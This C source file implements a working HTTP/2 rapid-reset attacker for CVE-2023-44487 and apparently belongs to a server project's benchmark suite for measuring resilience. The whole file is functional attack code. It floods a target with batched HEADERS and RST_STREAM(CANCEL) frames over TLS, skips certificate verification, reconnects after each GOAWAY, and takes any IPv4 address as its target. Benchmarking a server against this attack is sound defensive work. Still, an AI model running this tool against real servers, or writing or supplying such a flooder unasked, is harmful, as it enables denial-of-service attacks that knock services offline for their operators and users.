// SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
/*
 * h2_rapid_reset: one HTTP/2 rapid-reset attacker (CVE-2023-44487) for the
 * rapid-reset row of make bench-h2 (tests/bench/bench_h2.sh). Not a test: it
 * asserts nothing about the server; it attacks and counts.
 *
 * Over one TLS connection (ALPN "h2" only) it opens streams and cancels them
 * at once, as fast as the server takes the bytes: each stream is a HEADERS
 * frame (GET, END_STREAM | END_HEADERS) followed by RST_STREAM(CANCEL),
 * written back to back in 16 KiB batches, so the client never has more than
 * one stream open and stays within any SETTINGS_MAX_CONCURRENT_STREAMS. Its
 * own cost per stream is small against the server's: the header block is
 * stateless HPACK (static-table indices and literals without indexing), so
 * one batch of frames is built once and only the stream ids are rewritten
 * (two 4-byte stores per stream), then encrypted and written. When the
 * server ends the connection (GOAWAY, or a close), it opens the next one, as
 * an attacker would: one connection at a time, never two.
 *
 * What it reads is parsed only to answer SETTINGS and PING, to stop opening
 * streams after a GOAWAY (it closes a second later if the server has not),
 * to return the connection window, and to count.
 *
 * Usage: h2_rapid_reset ADDR PORT [-s SNI] [-a AUTHORITY] [-p PATH]
 *                       [-d SECONDS] [-n MAX_STREAMS] [-c MAX_CONNS]
 *   (IPv4; defaults: SNI and :authority bench.test, path /, 10 s, no
 *   count bound below 2^40 streams and 10^6 connections; -d at most 3600)
 *
 * Prints "h2_rapid_reset: attacking ADDR:PORT" once the first connection
 * is up, and on exit (the duration or a bound reached, SIGTERM or SIGINT)
 * exactly one line:
 *   h2_rapid_reset: seconds=S conns=N streams=N streams_per_s=N goaways=N
 *     last_goaway=NAME responses=N resets_recv=N bytes_sent=N
 * (one line; streams: HEADERS + RST_STREAM pairs written in full; goaways:
 * GOAWAY frames received, last_goaway the last one's error code; responses:
 * HEADERS frames received, streams answered before the server read their
 * reset; resets_recv: RST_STREAM frames received).
 * Exit status 0, or 1 when the first connection fails or the server does not
 * select h2.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
	F_DATA = 0,
	F_HEADERS = 1,
	F_RST_STREAM = 3,
	F_SETTINGS = 4,
	F_PING = 6,
	F_GOAWAY = 7,
	F_WINDOW_UPDATE = 8
};
#define FL_END_STREAM 0x1
#define FL_ACK 0x1
#define FL_END_HEADERS 0x4
#define ERR_CANCEL 0x8
#define BATCH 16384 /* bytes of frames per SSL_write: one TLS record */
#define MAX_SID 0x7fffffffu
#define IN_MAX (1 << 20) /* largest frame we accept to buffer */

static const char *const err_names[] = {
	"NO_ERROR",
	"PROTOCOL_ERROR",
	"INTERNAL_ERROR",
	"FLOW_CONTROL_ERROR",
	"SETTINGS_TIMEOUT",
	"STREAM_CLOSED",
	"FRAME_SIZE_ERROR",
	"REFUSED_STREAM",
	"CANCEL",
	"COMPRESSION_ERROR",
	"CONNECT_ERROR",
	"ENHANCE_YOUR_CALM",
	"INADEQUATE_SECURITY",
	"HTTP_1_1_REQUIRED",
};

static volatile sig_atomic_t stopping;
static struct sockaddr_in dst;
static SSL_CTX *ctx;
static const char *sni = "bench.test", *authority, *path = "/";
static double duration = 10, deadline;
static unsigned long long max_streams = 1ull << 40, max_conns = 1000000;

/* the batch: per stream, HEADERS then RST_STREAM; sid_off[] are the
 * offsets of the stream ids to rewrite */
static unsigned char batch[BATCH];
static size_t batch_len, per_batch, pair_len, hdr_sid_off, rst_sid_off;

static unsigned long long n_conns, n_streams, n_goaways, n_responses, n_resets,
	n_bytes;
static char last_goaway[32] = "-";

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void on_signal(int sig)
{
	(void)sig;
	stopping = 1;
}

static void put32(unsigned char *p, uint32_t v)
{
	p[0] = v >> 24;
	p[1] = v >> 16;
	p[2] = v >> 8;
	p[3] = v;
}

static uint32_t get32(const unsigned char *p)
{
	return (uint32_t)p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3];
}

/* frame header + payload appended at *p; returns the new end */
static unsigned char *frame(unsigned char *p, int type, int flags, uint32_t sid,
			    const void *payload, size_t len)
{
	p[0] = len >> 16;
	p[1] = len >> 8;
	p[2] = len;
	p[3] = type;
	p[4] = flags;
	put32(p + 5, sid);
	if (len)
		memcpy(p + 9, payload, len);
	return p + 9 + len;
}

/* literal header field without indexing, name from the static table
 * (RFC 7541, 6.2.2): the server's HPACK table is left as it was */
static size_t hpack_literal(unsigned char *p, int index, const char *value)
{
	size_t n = strlen(value);

	if (n > 126) {
		fprintf(stderr, "h2_rapid_reset: '%s' is too long\n", value);
		exit(2);
	}
	p[0] = index; /* 0000 + 4-bit index (< 15) */
	p[1] = n; /* no Huffman */
	memcpy(p + 2, value, n);
	return 2 + n;
}

static void build_batch(void)
{
	unsigned char block[300], *p = batch;
	size_t blen = 0;
	unsigned char cancel[4];

	block[blen++] = 0x82; /* :method GET */
	block[blen++] = 0x87; /* :scheme https */
	blen += hpack_literal(block + blen, 4, path); /* :path */
	blen += hpack_literal(block + blen, 1, authority); /* :authority */
	put32(cancel, ERR_CANCEL);
	pair_len = 9 + blen + 9 + 4;
	hdr_sid_off = 5;
	rst_sid_off = 9 + blen + 5;
	per_batch = BATCH / pair_len;
	for (size_t i = 0; i < per_batch; i++) {
		p = frame(p, F_HEADERS, FL_END_STREAM | FL_END_HEADERS, 1,
			  block, blen);
		p = frame(p, F_RST_STREAM, 0, 1, cancel, 4);
	}
	batch_len = p - batch;
}

/* rewrite the batch for streams sid, sid + 2, ...; returns how many */
static size_t fill_batch(uint32_t sid)
{
	size_t n = per_batch;

	if ((MAX_SID - sid) / 2 + 1 < n)
		n = (MAX_SID - sid) / 2 + 1;
	if (max_streams - n_streams < n)
		n = max_streams - n_streams;
	for (size_t i = 0; i < n; i++, sid += 2) {
		put32(batch + i * pair_len + hdr_sid_off, sid);
		put32(batch + i * pair_len + rst_sid_off, sid);
	}
	return n;
}

static int fcntl_nonblock(int fd)
{
	int fl = fcntl(fd, F_GETFL);

	return fl < 0 ? -1 : fcntl(fd, F_SETFL, fl | O_NONBLOCK);
}

static SSL *conn_open(int *fdp, const char **why)
{
	int one = 1, fd;
	struct timeval hs_timeout = { .tv_sec = 5 };
	const unsigned char *alpn;
	unsigned alpn_len;
	SSL *ssl;

	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0) {
		*why = strerror(errno);
		return NULL;
	}
	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	/* a server that accepts and never finishes the handshake */
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &hs_timeout,
		   sizeof(hs_timeout));
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &hs_timeout,
		   sizeof(hs_timeout));
	if (connect(fd, (struct sockaddr *)&dst, sizeof(dst))) {
		*why = strerror(errno);
		close(fd);
		return NULL;
	}
	ssl = SSL_new(ctx);
	SSL_set_fd(ssl, fd);
	SSL_set_tlsext_host_name(ssl, sni);
	if (SSL_connect(ssl) != 1) {
		*why = "TLS handshake failed";
		SSL_free(ssl);
		close(fd);
		return NULL;
	}
	SSL_get0_alpn_selected(ssl, &alpn, &alpn_len);
	if (alpn_len != 2 || memcmp(alpn, "h2", 2)) {
		*why = "the server did not select h2 in ALPN";
		SSL_free(ssl);
		close(fd);
		return NULL;
	}
	/* non-blocking from here: poll for both directions */
	SSL_set_mode(ssl, SSL_MODE_ENABLE_PARTIAL_WRITE |
				  SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
	if (fcntl_nonblock(fd)) {
		*why = strerror(errno);
		SSL_free(ssl);
		close(fd);
		return NULL;
	}
	*fdp = fd;
	n_conns++;
	return ssl;
}

/* the server's frames: answer SETTINGS and PING, note GOAWAY, count, give
 * back the connection window; returns the bytes consumed */
static size_t parse(const unsigned char *in, size_t len, unsigned char *ctl,
		    size_t *ctl_len, size_t ctl_max, double *goaway_at,
		    unsigned long long *data_in)
{
	size_t off = 0;

	while (len - off >= 9) {
		size_t flen =
			(size_t)in[off] << 16 | in[off + 1] << 8 | in[off + 2];
		int type = in[off + 3], flags = in[off + 4];
		const unsigned char *pl = in + off + 9;
		unsigned char wu[4];

		if (len - off < 9 + flen)
			break;
		off += 9 + flen;
		if (*ctl_len + 9 + 8 > ctl_max)
			continue; /* a flood of PINGs: drop the answers */
		switch (type) {
		case F_SETTINGS:
			if (!(flags & FL_ACK))
				*ctl_len = frame(ctl + *ctl_len, F_SETTINGS,
						 FL_ACK, 0, NULL, 0) -
					   ctl;
			break;
		case F_PING:
			if (!(flags & FL_ACK) && flen == 8)
				*ctl_len = frame(ctl + *ctl_len, F_PING, FL_ACK,
						 0, pl, 8) -
					   ctl;
			break;
		case F_GOAWAY:
			n_goaways++;
			if (flen >= 8) {
				uint32_t code = get32(pl + 4);

				if (code <
				    sizeof(err_names) / sizeof(err_names[0]))
					snprintf(last_goaway,
						 sizeof(last_goaway), "%s",
						 err_names[code]);
				else
					snprintf(last_goaway,
						 sizeof(last_goaway), "0x%x",
						 code);
			}
			/* no new streams; the server closes, or we do after
			 * a second */
			if (!*goaway_at)
				*goaway_at = now() + 1;
			break;
		case F_HEADERS:
			n_responses++;
			break;
		case F_RST_STREAM:
			n_resets++;
			break;
		case F_DATA:
			*data_in += flen;
			if (*data_in >= 1 << 20) {
				put32(wu, *data_in);
				*ctl_len = frame(ctl + *ctl_len,
						 F_WINDOW_UPDATE, 0, 0, wu, 4) -
					   ctl;
				*data_in = 0;
			}
			break;
		}
	}
	return off;
}

/* attack over one connection until the server ends it or the run ends */
static void run_conn(SSL *ssl, int fd)
{
	static unsigned char in[IN_MAX + 65536];
	static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
	unsigned char ctl[4096], sendbuf[4096], setting[6], wu[4];
	const unsigned char *out = NULL;
	size_t ctl_len = 0, in_len = 0, out_len = 0, out_n = 0;
	uint32_t sid = 1;
	double goaway_at = 0;
	unsigned long long data_in = 0;
	int want_write = 0;

	/* the preface, no push, a large connection window: what the server
	 * sends before it reads a reset is read and dropped */
	memcpy(ctl, preface, sizeof(preface) - 1);
	ctl_len = sizeof(preface) - 1;
	setting[0] = 0;
	setting[1] = 2; /* SETTINGS_ENABLE_PUSH */
	put32(setting + 2, 0);
	ctl_len = frame(ctl + ctl_len, F_SETTINGS, 0, 0, setting, 6) - ctl;
	put32(wu, 1u << 30);
	ctl_len = frame(ctl + ctl_len, F_WINDOW_UPDATE, 0, 0, wu, 4) - ctl;

	for (;;) {
		struct pollfd pfd = { .fd = fd, .events = POLLIN };
		double t = now();
		int n;

		if (stopping || t >= deadline || (goaway_at && t > goaway_at))
			return;
		if (!out_len) {
			if (ctl_len) { /* control frames between batches */
				memcpy(sendbuf, ctl, ctl_len);
				out = sendbuf;
				out_len = ctl_len;
				out_n = 0;
				ctl_len = 0;
			} else if (!goaway_at && sid <= MAX_SID &&
				   n_streams < max_streams) {
				out_n = fill_batch(sid);
				sid += 2 * out_n;
				out = batch;
				out_len = out_n * pair_len;
			}
		}
		/* read all there is */
		for (;;) {
			size_t used;

			n = SSL_read(ssl, in + in_len, sizeof(in) - in_len);
			if (n <= 0) {
				int e = SSL_get_error(ssl, n);

				if (e == SSL_ERROR_WANT_READ ||
				    e == SSL_ERROR_WANT_WRITE)
					break;
				return; /* closed, or an error */
			}
			in_len += n;
			used = parse(in, in_len, ctl, &ctl_len, sizeof(ctl),
				     &goaway_at, &data_in);
			memmove(in, in + used, in_len - used);
			in_len -= used;
			if (in_len > IN_MAX)
				return; /* a frame larger than we take */
		}
		/* write what is pending until the socket is full */
		want_write = 0;
		while (out_len) {
			n = SSL_write(ssl, out, out_len);
			if (n <= 0) {
				int e = SSL_get_error(ssl, n);

				if (e == SSL_ERROR_WANT_WRITE) {
					want_write = 1;
					break;
				}
				if (e == SSL_ERROR_WANT_READ)
					break;
				return;
			}
			n_bytes += n;
			out += n;
			out_len -= n;
			if (!out_len) {
				n_streams += out_n;
				out_n = 0;
			}
		}
		if (!out_len && !ctl_len && !goaway_at && sid <= MAX_SID &&
		    n_streams < max_streams)
			continue; /* the next batch at once */
		if (!out_len && n_streams >= max_streams)
			return;
		if (want_write)
			pfd.events |= POLLOUT;
		t = deadline - now();
		if (goaway_at && goaway_at - now() < t)
			t = goaway_at - now();
		if (t > 0.2)
			t = 0.2;
		if (poll(&pfd, 1, t > 0 ? (int)(t * 1000) + 1 : 0) < 0 &&
		    errno != EINTR)
			return;
	}
}

static void usage(void)
{
	fprintf(stderr,
		"usage: h2_rapid_reset ADDR PORT [-s SNI] [-a AUTHORITY] "
		"[-p PATH] [-d SECONDS] [-n MAX_STREAMS] [-c MAX_CONNS]\n");
	exit(2);
}

int main(int argc, char **argv)
{
	struct sigaction sa = { .sa_handler = on_signal };
	const char *why = NULL;
	double t0, secs;
	int opt;

	while ((opt = getopt(argc, argv, "s:a:p:d:n:c:")) != -1) {
		switch (opt) {
		case 's':
			sni = optarg;
			break;
		case 'a':
			authority = optarg;
			break;
		case 'p':
			path = optarg;
			break;
		case 'd':
			duration = atof(optarg);
			break;
		case 'n':
			max_streams = strtoull(optarg, NULL, 10);
			break;
		case 'c':
			max_conns = strtoull(optarg, NULL, 10);
			break;
		default:
			usage();
		}
	}
	if (argc - optind != 2)
		usage();
	if (!(duration > 0 && duration <= 3600)) {
		fprintf(stderr,
			"h2_rapid_reset: -d must be in (0, 3600] seconds\n");
		return 2;
	}
	dst.sin_family = AF_INET;
	dst.sin_port = htons(atoi(argv[optind + 1]));
	if (inet_pton(AF_INET, argv[optind], &dst.sin_addr) != 1) {
		fprintf(stderr, "h2_rapid_reset: '%s' is not an IPv4 address\n",
			argv[optind]);
		return 2;
	}
	if (!authority)
		authority = sni;
	build_batch();
	sigaction(SIGTERM, &sa, NULL); /* no SA_RESTART: poll returns */
	sigaction(SIGINT, &sa, NULL);
	signal(SIGPIPE, SIG_IGN);
	ctx = SSL_CTX_new(TLS_client_method());
	if (!ctx ||
	    SSL_CTX_set_alpn_protos(ctx, (const unsigned char *)"\x02h2", 3)) {
		fprintf(stderr, "h2_rapid_reset: cannot set up TLS\n");
		return 1;
	}
	SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL);
	t0 = now();
	deadline = t0 + duration;
	while (!stopping && now() < deadline && n_conns < max_conns &&
	       n_streams < max_streams) {
		int fd;
		SSL *ssl = conn_open(&fd, &why);

		if (!ssl) {
			if (!n_conns) {
				fprintf(stderr,
					"h2_rapid_reset: cannot attack %s:%s: %s\n",
					argv[optind], argv[optind + 1], why);
				return 1;
			}
			usleep(10000); /* refused while the server recovers */
			continue;
		}
		if (n_conns == 1) {
			printf("h2_rapid_reset: attacking %s:%s\n",
			       argv[optind], argv[optind + 1]);
			fflush(stdout);
		}
		run_conn(ssl, fd);
		SSL_free(ssl);
		close(fd);
	}
	secs = now() - t0;
	printf("h2_rapid_reset: seconds=%.2f conns=%llu streams=%llu "
	       "streams_per_s=%.0f goaways=%llu last_goaway=%s responses=%llu "
	       "resets_recv=%llu bytes_sent=%llu\n",
	       secs, n_conns, n_streams, n_streams / secs, n_goaways,
	       last_goaway, n_responses, n_resets, n_bytes);
	SSL_CTX_free(ctx);
	return 0;
}
